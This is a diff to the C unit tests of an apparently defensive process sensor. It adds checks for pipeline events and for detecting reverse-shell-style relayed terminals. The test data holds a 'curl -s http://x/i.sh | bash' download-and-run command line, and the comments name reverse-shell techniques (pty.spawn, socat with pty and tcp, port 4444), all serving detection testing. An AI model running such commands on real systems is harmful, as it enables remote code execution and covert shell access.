@@ -4,8 +4,9 @@
  * (pid, start time) identity, the field mapping of a decoded event, and the
  * process bookkeeping both capture modes share; and, through a capture
  * written here and replayed, the pipe join (writer before or after its
- * reader) and the path operations' join of relative paths with their
- * directory and the final check against the watch list.
+ * reader), the path operations' join of relative paths with their
+ * directory and the final check against the watch list, and the relayed
+ * terminals (a program on a pty made by a process that holds a socket).
  * Prints one line per check and `sensor-unit: P passed, F failed`. */
 #include "sensor/sensor_int.h"
 
@@ -136,6 +137,26 @@ static void test_fields(void)
     CHECK("fields: a fork as EventID 1001 with its parent, and no command line",
           n > 0 && strstr(out, "EventID=1001\n") && strstr(out, "ParentProcessId=42\n") &&
               strstr(out, "ParentImage=/usr/bin/bash\n") && !strstr(out, "CommandLine") && !strstr(out, "/dev/tcp"));
+    /* a pipeline link (and the reader's exec) named both command lines, each
+     * already on its own exec event: a rule on either matched one pipeline twice */
+    memset(&ev, 0, sizeof(ev));
+    ev.kind = SENSOR_PIPELINE;
+    ev.tgid = ev.pid = 44;
+    ev.ppid = 42;
+    ev.image = "/usr/bin/bash";
+    ev.parent_image = "/usr/bin/bash";
+    ev.cmdline = "bash -s stoat-reader-words";
+    ev.parent_cmdline = "bash -c curl -s http://x/i.sh | bash -s stoat-reader-words";
+    ev.stdin_tgid = 45;
+    ev.stdin_start_ns = 7;
+    ev.stdin_image = "/usr/bin/curl";
+    out[0] = 0;
+    n = sensor_event_fields(&s, &ev, collect, out);
+    CHECK("fields: a pipeline event (1004) is the link alone: no command line of the reader, its parent or "
+          "the writer",
+          n > 0 && strstr(out, "EventID=1004\n") && strstr(out, "StdinFromImage=/usr/bin/curl\n") &&
+              strstr(out, "StdinFromProcessId=45\n") && strstr(out, "Image=/usr/bin/bash\n") &&
+              !strstr(out, "CommandLine") && !strstr(out, "stoat-reader-words"));
 }
 
 struct seen {
@@ -228,7 +249,8 @@ static void cap_frame(FILE *f, uint32_t tag, const void *p, uint32_t len)
     fwrite(zero, 1, cap_pad8(len) - len, f);
 }
 
-static uint32_t cap_ppid = 1; /* the parent of the next exec records */
+static uint32_t cap_ppid = 1;  /* the parent of the next exec records */
+static uint32_t cap_flags = 0; /* SENSOR_RF_* of the next exec records */
 
 /* an exec record of tgid running image with argv "image", pipes on fd 0 / fd 1 */
 static void cap_exec(FILE *f, uint32_t tgid, uint64_t ts, const char *image, uint64_t in, uint64_t out, const char *env,
@@ -242,6 +264,7 @@ static void cap_exec(FILE *f, uint32_t tgid, uint64_t ts, const char *image, uin
     e->h.ts_ns = ts;
     e->h.pid = e->h.tgid = tgid;
     e->h.start_ns = 1000 + tgid;
+    e->h.flags = cap_flags;
     e->ppid = cap_ppid;
     e->pstart_ns = 1000 + cap_ppid;
     e->nparts = 1;
@@ -283,11 +306,48 @@ static void cap_fileop(FILE *f, uint32_t tgid, uint32_t op, const char *path, co
     cap_frame(f, CAP_RECORD, buf, r->h.size);
 }
 
+/* a connect, accept or close record of tgid's socket sk (peer port 4444) */
+static void cap_net(FILE *f, uint32_t type, uint32_t tgid, uint64_t sk)
+{
+    struct sensor_rec_net r;
+    memset(&r, 0, sizeof(r));
+    r.h.type = type;
+    r.h.size = sizeof(r);
+    r.h.ts_ns = 7000;
+    r.h.pid = r.h.tgid = tgid;
+    r.h.start_ns = 1000 + tgid;
+    r.src.family = r.dst.family = 2;
+    r.src.port = 40000;
+    r.dst.port = 4444;
+    r.src.addr[0] = r.dst.addr[0] = 127;
+    r.src.addr[3] = r.dst.addr[3] = 1;
+    r.sk = sk;
+    r.fd = -1;
+    r.initiated = type == SENSOR_REC_CONNECT;
+    r.proto = 6;
+    cap_frame(f, CAP_RECORD, &r, sizeof(r));
+}
+
+static void cap_fork(FILE *f, uint32_t tgid, uint32_t ppid)
+{
+    struct sensor_rec_fork r;
+    memset(&r, 0, sizeof(r));
+    r.h.type = SENSOR_REC_FORK;
+    r.h.size = sizeof(r);
+    r.h.ts_ns = 7000;
+    r.h.pid = r.h.tgid = tgid;
+    r.h.start_ns = 1000 + tgid;
+    r.ppid = ppid;
+    r.pstart_ns = 1000 + ppid;
+    cap_frame(f, CAP_RECORD, &r, sizeof(r));
+}
+
 struct got {
     int n;
     struct {
         enum sensor_kind kind;
-        uint32_t tgid, from;
+        uint32_t tgid, from, relay;
+        uint8_t pty_fds;
         char from_image[64], path[128], path2[128], env[128];
     } ev[24];
 };
@@ -300,6 +360,8 @@ static int got_cb(void *ctx, const struct sensor_event *ev)
     g->ev[g->n].kind = ev->kind;
     g->ev[g->n].tgid = ev->tgid;
     g->ev[g->n].from = ev->stdin_tgid;
+    g->ev[g->n].relay = ev->relay_tgid;
+    g->ev[g->n].pty_fds = ev->pty_fds;
     snprintf(g->ev[g->n].from_image, 64, "%s", ev->stdin_image ? ev->stdin_image : "");
     snprintf(g->ev[g->n].path, 128, "%s", ev->path ? ev->path : "");
     snprintf(g->ev[g->n].path2, 128, "%s", ev->path2 ? ev->path2 : "");
@@ -389,6 +451,100 @@ static void test_replayed_joins(void)
           g.ev[8].kind == SENSOR_FILE_DELETE && strcmp(g.ev[8].path, "/etc/cron.d/job") == 0);
 }
 
+/* the relayed-terminal events of a replay, in order, as "prog<relay" */
+static void pty_events(const struct got *g, char *out, size_t cap)
+{
+    size_t o = 0;
+    out[0] = 0;
+    for (int i = 0; i < g->n && o + 32 < cap; i++)
+        if (g->ev[i].kind == SENSOR_PTY_STDIO)
+            o += (size_t)snprintf(out + o, cap - o, "%s%u<%u/%u", o ? " " : "", g->ev[i].tgid, g->ev[i].relay,
+                                  g->ev[i].pty_fds);
+}
+
+static void test_replayed_ptys(void)
+{
+    char path[] = "/tmp/stoat-unit-pty.XXXXXX";
+    int fd = mkstemp(path);
+    FILE *f = fd >= 0 ? fdopen(fd, "wb") : NULL;
+    struct sensor *s = NULL;
+    struct got g;
+    char err[256], got[256];
+    if (!f) {
+        CHECK("ptys: capture written", false);
+        return;
+    }
+    fwrite(CAP_MAGIC, 1, CAP_MAGIC_LEN, f);
+    const char hdr[] = "\x01\0\0\0\0\0\0\0host";
+    cap_frame(f, CAP_HEADER, hdr, sizeof(hdr));
+    int64_t zero = 0;
+    cap_frame(f, CAP_POLL, &zero, 8);
+    const uint32_t pty = SENSOR_RF_PTY_FD0 * 7; /* fds 0, 1 and 2 on a new terminal */
+    /* connects, then a shell on a terminal it made (pty.spawn); the shell execs again */
+    cap_ppid = 1;
+    cap_exec(f, 201, 100, "/usr/bin/python3", 0, 0, NULL, 0);
+    cap_net(f, SENSOR_REC_CONNECT, 201, 0x51);
+    cap_ppid = 201;
+    cap_flags = pty;
+    cap_exec(f, 202, 200, "/usr/bin/bash", 0, 0, NULL, 0);
+    cap_exec(f, 202, 300, "/usr/bin/dash", 0, 0, NULL, 0);
+    /* script with no socket: its shell on a new terminal is no relay */
+    cap_ppid = 1;
+    cap_flags = 0;
+    cap_exec(f, 203, 400, "/usr/bin/script", 0, 0, NULL, 0);
+    cap_ppid = 203;
+    cap_flags = pty;
+    cap_exec(f, 204, 500, "/usr/bin/bash", 0, 0, NULL, 0);
+    /* the shell first, then its maker connects (socat exec:...,pty tcp:...) */
+    cap_ppid = 1;
+    cap_flags = 0;
+    cap_exec(f, 205, 600, "/usr/bin/socat", 0, 0, NULL, 0);
+    cap_ppid = 205;
+    cap_flags = pty;
+    cap_exec(f, 206, 700, "/usr/bin/bash", 0, 0, NULL, 0);
+    cap_net(f, SENSOR_REC_CONNECT, 205, 0x52);
+    /* a connection closed before the terminal: no relay */
+    cap_ppid = 1;
+    cap_flags = 0;
+    cap_exec(f, 207, 800, "/usr/bin/python3", 0, 0, NULL, 0);
+    cap_net(f, SENSOR_REC_CONNECT, 207, 0x53);
+    cap_net(f, SENSOR_REC_CLOSE, 207, 0x53);
+    cap_ppid = 207;
+    cap_flags = pty;
+    cap_exec(f, 208, 900, "/usr/bin/bash", 0, 0, NULL, 0);
+    /* a fork of the connector makes the terminal: it holds the socket too */
+    cap_ppid = 1;
+    cap_flags = 0;
+    cap_exec(f, 209, 1000, "/usr/bin/python3", 0, 0, NULL, 0);
+    cap_net(f, SENSOR_REC_CONNECT, 209, 0x54);
+    cap_fork(f, 210, 209);
+    cap_ppid = 210;
+    cap_flags = SENSOR_RF_PTY_FD0 * 3; /* fds 0 and 1 */
+    cap_exec(f, 211, 1100, "/usr/bin/sh", 0, 0, NULL, 0);
+    cap_ppid = 1;
+    cap_flags = 0;
+    int64_t clock = 6000;
+    cap_frame(f, CAP_CLOCK, &clock, 8);
+    fclose(f);
+
+    struct sensor_opts o = {.replay_path = path};
+    memset(&g, 0, sizeof(g));
+    if (sensor_open(&o, &s, err, sizeof(err)) != 0) {
+        CHECK("ptys: the capture opens", false);
+        unlink(path);
+        return;
+    }
+    while (sensor_poll(s, 0, got_cb, &g) >= 0)
+        ;
+    sensor_close(s);
+    unlink(path);
+    pty_events(&g, got, sizeof(got));
+    printf("     ptys: relayed terminals: %s\n", got);
+    /* 202 once (not again at its second exec), 206 at its maker's connect, 211 under the fork; not 204, 208 */
+    CHECK("ptys: a shell on a terminal made by a process holding a socket, once per process, either order",
+          strcmp(got, "202<201/7 206<205/7 211<210/3") == 0);
+}
+
 static void test_join(void)
 {
     char out[64];
@@ -410,6 +566,7 @@ int main(void)
     test_deliver_proc();
     test_join();
     test_replayed_joins();
+    test_replayed_ptys();
     printf("sensor-unit: %d passed, %d failed\n", pass, fail);
     return fail ? 1 : 0;
 }
